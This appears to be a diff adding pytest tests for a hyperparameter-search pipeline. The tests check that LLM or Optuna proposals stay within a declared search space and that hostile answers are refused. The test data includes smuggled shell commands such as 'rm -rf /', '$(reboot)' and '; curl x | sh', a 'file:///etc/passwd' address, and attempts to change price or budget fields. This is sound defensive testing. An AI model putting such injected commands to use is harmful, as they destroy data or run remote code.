@@ -1,0 +1,300 @@
+"""Proposers: what they may propose, and what becomes of everything else, hostile answers included."""
+
+import json
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import replace
+from http.server import BaseHTTPRequestHandler, HTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from pipelines.campaign import research as campaign_research
+from pipelines.campaign import run as campaign
+from pipelines.campaign.proposers import open_proposer
+from pipelines.campaign.proposers.base import Outcome, Proposal, ProposalError, inside_space
+from pipelines.campaign.proposers.llm import KEY_ENV, MODEL_ENV, URL_ENV, LlmProposer
+from pipelines.campaign.records import find_parent
+from pipelines.campaign.research import MOST_REFUSALS
+from pipelines.campaign.run import CampaignConfig, run_campaign
+from pipelines.campaign.spec import BudgetSpec, CampaignError, CampaignSpec, EndpointSpec, ProposerSpec
+from pipelines.campaign.stages import resolve_lines
+from pipelines.command.cli import run_entry_point
+from pipelines.tracking.arms import read_arms
+from pipelines.tracking.run import client
+
+SPACE: dict[str, dict[str, Any]] = {
+    "optim.lr": {"low": 1e-5, "high": 1e-2, "log": True},
+    "batch_size": {"low": 8, "high": 64},
+    "objective.koleo_on": {"choices": ["head_logits", "class_token"]},
+}
+
+
+def spec_of(kind: Any, prune_metric: str = "") -> CampaignSpec:
+    return CampaignSpec(
+        name="search",
+        question="Which rate?",
+        endpoint=EndpointSpec(metric="loss/total", goal="minimise"),
+        stages={"rehearsal": {}},
+        budget=BudgetSpec(hours=1.0),
+        proposer=ProposerSpec(
+            kind=kind, max_arms=8, space=SPACE, prune_metric=prune_metric, prune_from_step=2
+        ),
+    )
+
+
+@pytest.mark.parametrize(
+    ("overrides", "sentence"),
+    [
+        ({}, "changes nothing"),
+        ({"price_per_hour": 0}, "'price_per_hour' is not in the space"),
+        ({"budget.cost": 1000}, "'budget.cost' is not in the space"),
+        ({"runs_dir": "/etc"}, "'runs_dir' is not in the space"),
+        ({"optim.lr": 1.0}, "it may lie in 1e-05 .. 0.01"),
+        ({"optim.lr": "$(reboot)"}, "which is no number"),
+        ({"optim.lr": True}, "which is no number"),
+        ({"optim.lr": float("nan")}, "it may lie in"),
+        ({"objective.koleo_on": "class_token; rm -rf /"}, "it may be one of"),
+        ({"objective.koleo_on": ["class_token"]}, "it may be one of"),
+    ],
+)
+def test_nothing_outside_the_space_passes(overrides: dict[str, Any], sentence: str) -> None:
+    with pytest.raises(ProposalError, match=sentence):
+        inside_space(spec_of("llm").proposer, overrides)
+
+
+class StubModel(BaseHTTPRequestHandler):
+    """Answers with what the test put there, and keeps what it was asked."""
+
+    content: Any = "{}"
+    status: int = 200
+    script: list[str]
+    asked: list[tuple[dict[str, str], dict[str, Any]]]
+
+    def do_POST(self) -> None:
+        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        type(self).asked.append((dict(self.headers), body))
+        self.send_response(self.status)
+        self.end_headers()
+        answer = self.script.pop(0) if self.script else self.content
+        if isinstance(answer, str):
+            answer = {"choices": [{"message": {"content": answer}}]}
+        self.wfile.write(json.dumps(answer).encode())
+
+    def log_message(self, format: str, *args: Any) -> None:
+        """Stay quiet."""
+
+
+@pytest.fixture
+def model(monkeypatch: pytest.MonkeyPatch) -> Iterator[type[StubModel]]:
+    StubModel.asked, StubModel.script, StubModel.status, StubModel.content = [], [], 200, "{}"
+    server = HTTPServer(("127.0.0.1", 0), StubModel)
+    thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
+    thread.start()
+    monkeypatch.setenv(URL_ENV, f"http://127.0.0.1:{server.server_port}/v1")
+    monkeypatch.setenv(MODEL_ENV, "stub")
+    monkeypatch.setenv(KEY_ENV, "s3cret")
+    yield StubModel
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+def test_a_proposal_of_the_model_becomes_overrides(model: type[StubModel]) -> None:
+    model.content = json.dumps({"hypothesis": "slower\nis\x1b[31m better", "overrides": {"optim.lr": 0.001}})
+    done = Outcome("llm-000", {"optim.lr": 0.01}, "first", "finished", 0.7)
+    proposal = LlmProposer(spec_of("llm")).propose([done])
+    assert proposal == Proposal({"optim.lr": 0.001}, "slower is [31m better")
+    headers, body = model.asked[0]
+    assert headers["Authorization"] == "Bearer s3cret"
+    situation = json.loads(body["messages"][1]["content"])
+    assert situation["space"] == SPACE
+    assert situation["results"] == [
+        {"overrides": {"optim.lr": 0.01}, "hypothesis": "first", "state": "finished", "value": 0.7}
+    ]
+    assert "s3cret" not in json.dumps(body)
+
+
+@pytest.mark.parametrize(
+    ("content", "sentence"),
+    [
+        ("I would lower the rate.", "the answer is no JSON"),
+        ("```json\n{}\n```", "the answer is no JSON"),
+        ("[]", "a JSON list, not an object"),
+        ('{"overrides": {"optim.lr": 0.001}}', "lacks an object 'overrides' or a text 'hypothesis'"),
+        ('{"hypothesis": 3, "overrides": {"optim.lr": 0.001}}', "lacks an object"),
+        (
+            '{"hypothesis": "x", "overrides": {"optim.lr": 0.001}, "price_per_hour": 0}',
+            "'price_per_hour', which no",
+        ),
+        (
+            '{"hypothesis": "x", "overrides": {"optim.lr": 0.001}, "budget": {"cost": 9}}',
+            "'budget', which no",
+        ),
+        ('{"hypothesis": "x", "overrides": {"resume": "; curl x | sh"}}', "'resume' is not in the space"),
+        ('{"hypothesis": "x", "overrides": {"optim.lr": NaN}}', "it may lie in"),
+        ({"error": {"message": "no"}}, "no chat completion"),
+        ({"choices": [{"message": {"content": None}}]}, "answered without text"),
+        ({"choices": []}, "no chat completion"),
+    ],
+)
+def test_a_hostile_answer_is_refused_with_its_reason(
+    model: type[StubModel], content: Any, sentence: str
+) -> None:
+    model.content = content
+    with pytest.raises(ProposalError, match=sentence):
+        LlmProposer(spec_of("llm")).propose([])
+
+
+def test_a_model_may_stop_and_may_be_away(model: type[StubModel], monkeypatch: pytest.MonkeyPatch) -> None:
+    model.content = '{"stop": true}'
+    assert LlmProposer(spec_of("llm")).propose([]) is None
+    model.status = 500
+    with pytest.raises(ProposalError, match="did not answer: Internal Server Error"):
+        LlmProposer(spec_of("llm")).propose([])
+    monkeypatch.setenv(URL_ENV, "http://127.0.0.1:9/v1")
+    with pytest.raises(ProposalError, match="did not answer"):
+        LlmProposer(spec_of("llm")).propose([])
+
+
+def test_a_model_needs_an_address(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.delenv(URL_ENV, raising=False)
+    monkeypatch.setenv(MODEL_ENV, "m")
+    with pytest.raises(CampaignError, match="proposer llm needs DINOX_LLM_URL in the environment"):
+        open_proposer(spec_of("llm"))
+    monkeypatch.setenv(URL_ENV, "file:///etc/passwd")
+    with pytest.raises(CampaignError, match="must be an http or https address"):
+        open_proposer(spec_of("llm"))
+
+
+def test_optuna_stays_in_the_space_and_moves_towards_what_was_better() -> None:
+    pytest.importorskip("optuna")
+    proposer = open_proposer(spec_of("optuna"))
+    outcomes: list[Outcome] = []
+    for number in range(24):
+        proposal = proposer.propose(outcomes)
+        assert proposal is not None
+        overrides = inside_space(spec_of("optuna").proposer, proposal.overrides)
+        assert set(overrides) == set(SPACE)
+        distance = abs(overrides["optim.lr"] - 1e-3) * 1000 + (
+            overrides["objective.koleo_on"] == "head_logits"
+        )
+        outcomes.append(Outcome(f"optuna-{number}", overrides, "", "finished", distance))
+    values = [outcome.value for outcome in outcomes if outcome.value is not None]
+    assert sum(values[-8:]) < sum(values[:8])
+    again = proposer.propose(outcomes)
+    assert again == proposer.propose(outcomes)  # A campaign that was killed asks again and hears the same.
+
+
+def test_optuna_prunes_the_arm_that_lags_behind_its_peers() -> None:
+    pytest.importorskip("optuna")
+    proposer = open_proposer(spec_of("optuna", prune_metric="loss/total"))
+    overrides = {"optim.lr": 1e-3, "batch_size": 8, "objective.koleo_on": "class_token"}
+
+    def running(name: str, level: float) -> Outcome:
+        return Outcome(name, overrides, "", "running", None, [(step, level) for step in range(1, 9)])
+
+    outcomes = [running("good", 0.1), running("fair", 0.2), running("better", 0.15), running("bad", 9.0)]
+    pruned = proposer.to_prune(outcomes)
+    assert "bad" in pruned
+    assert "good" not in pruned
+    assert proposer.to_prune([replace(outcome, state="finished") for outcome in outcomes]) == []
+    early = [replace(outcome, curve=outcome.curve[:1]) for outcome in outcomes]
+    assert proposer.to_prune(early) == []  # Nobody has reached the first rung.
+
+
+@pytest.fixture
+def search(own_store: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., int]:
+    """Call a campaign of rehearsals whose arms a proposer adds; returns the exit code."""
+    monkeypatch.setattr(campaign, "JOBS", own_store / "jobs")
+    for module in (campaign, campaign_research):
+        monkeypatch.setattr(module, "check_words", resolve_lines)
+
+    def call(kind: str, hours: float = 1.0) -> int:
+        tree = {
+            "name": "search",
+            "question": "Which rate?",
+            "endpoint": {"metric": "loss/total", "goal": "minimise"},
+            "stages": {"rehearsal": {"steps": 2}},
+            "price_per_hour": 0.5,
+            "budget": {"hours": hours},
+            "proposer": {
+                "kind": kind,
+                "max_arms": 4,
+                "space": {"lr": {"low": 1e-4, "high": 1e-2, "log": True}},
+            },
+        }
+        (own_store / "campaign.yaml").write_text(yaml.safe_dump(tree))
+        words = ["--spec", str(own_store / "campaign.yaml"), "--parallel", "1"]
+        return run_entry_point("campaign", CampaignConfig, run_campaign, None, words)
+
+    return call
+
+
+def research_log(own_store: Path) -> str:
+    parent = find_parent("search")
+    assert parent is not None
+    return Path(client().download_artifacts(parent.run_id, "research.md", str(own_store))).read_text()
+
+
+@pytest.mark.slow
+def test_a_model_runs_a_search_whatever_else_it_answers(
+    search: Callable[..., int], model: type[StubModel], own_store: Path
+) -> None:
+    def proposal(**tree: Any) -> str:
+        return json.dumps({"hypothesis": "try it", "overrides": {"lr": 0.001}} | tree)
+
+    model.script = [
+        "lower it!",
+        proposal(price_per_hour=0),
+        proposal(overrides={"seconds": 1e9}),
+        proposal(overrides={"lr": "1e-3; rm -rf /"}),
+        proposal(),
+        proposal(),  # the same again
+        proposal(overrides={"lr": 0.01}, hypothesis="higher"),
+        '{"stop": true}',
+    ]
+    assert search("llm") == 0
+    arms = {arm.name: arm for arm in read_arms()}
+    assert {name: arm.arm.overrides for name, arm in arms.items()} == {
+        "llm-000": {"lr": 0.001},
+        "llm-001": {"lr": 0.01},
+    }
+    assert all(arm.status == "FINISHED" and arm.price_per_hour == 0.5 for arm in arms.values())
+    log = research_log(own_store)
+    for words in (
+        "the answer is no JSON",
+        "'price_per_hour', which no proposal may set",
+        "'seconds' is not in the space",
+        "which is no number",
+        "it is arm llm-000 again",
+        "hypothesis: higher",
+        "outcome: finished, loss/total 0.5",
+    ):
+        assert words in log
+
+
+@pytest.mark.slow
+def test_a_model_that_only_babbles_is_not_asked_for_ever(
+    search: Callable[..., int], model: type[StubModel]
+) -> None:
+    model.content = "no"
+    assert search("llm") == 0
+    assert len(model.asked) == MOST_REFUSALS
+    assert read_arms() == []
+
+
+@pytest.mark.slow
+def test_optuna_adds_its_arms_and_a_second_call_adds_none(
+    search: Callable[..., int], own_store: Path
+) -> None:
+    pytest.importorskip("optuna")
+    assert search("optuna") == 0
+    arms = read_arms()
+    assert len(arms) == 4
+    assert all(arm.status == "FINISHED" and 1e-4 <= arm.arm.overrides["lr"] <= 1e-2 for arm in arms)
+    assert research_log(own_store).count("outcome: finished") == 4
+    assert search("optuna") == 0
+    assert len(read_arms()) == 4
